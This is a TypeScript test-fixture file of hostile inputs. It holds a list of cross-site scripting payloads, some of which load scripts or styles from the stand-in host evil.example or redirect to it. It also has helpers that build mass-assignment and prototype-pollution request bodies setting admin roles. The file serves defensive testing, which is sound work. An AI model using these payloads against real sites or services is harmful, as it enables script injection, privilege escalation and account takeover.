// What people send who mean no good, for the tests of every feature.

/** Markup that runs, or breaks out of where it stands, if it is ever taken for more than text. */
export const markup: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert`1`>',
  '<iframe src="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><button>x</button>',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '" onmouseover="alert(1)" x="',
];

const camelCase = (column: string) => column.replace(/_(\w)/g, (_, letter: string) => letter.toUpperCase());

const prototypes = '"__proto__":{"isAdmin":true,"is_admin":1},"constructor":{"prototype":{"isAdmin":true}}';

/**
 * A body that tries to set every column of a row, under the column's own name and in camel case, and by way of
 * prototypes: as JSON, since an object cannot hold `__proto__`.
 * @param rest what may be sent, and wins
 */
export function withEveryColumn(row: object, rest: object): string {
  const columns = Object.entries(row).map(([name, value]) => [
    name,
    typeof value === 'number' ? value + 1 : 'smuggled',
  ]);
  const all = Object.fromEntries(
    columns.flatMap(([name, value]) => [
      [name, value],
      [camelCase(String(name)), value],
    ]),
  );
  return `{${prototypes},${JSON.stringify({ ...all, role: 'admin', user: all, ...rest }).slice(1)}`;
}

type Json = string | number | boolean | null | readonly Json[] | { readonly [name: string]: Json };

/**
 * A body with further fields, in it and in each object that it holds, under their own names and in camel case.
 * @param allowed names that the body may have, and which stay as they are
 */
export function withFields(
  fields: Readonly<Record<string, unknown>>,
  payload: string,
  allowed: ReadonlySet<string>,
): string {
  const further = Object.fromEntries(
    Object.entries(fields)
      .flatMap(([name, value]) => [
        [name, value],
        [camelCase(name), value],
      ])
      .filter(([name]) => !allowed.has(String(name))),
  );
  const filled = (value: Json): unknown => {
    if (Array.isArray(value)) return value.map(filled);
    if (typeof value !== 'object' || value === null) return value;
    const own = Object.entries(value).map(([name, one]) => [name, filled(one)]);
    return { ...further, ...Object.fromEntries(own) };
  };
  const body = filled({ role: 'admin', user: {}, ...JSON.parse(payload) });
  return `{${prototypes},${JSON.stringify(body).slice(1)}`;
}
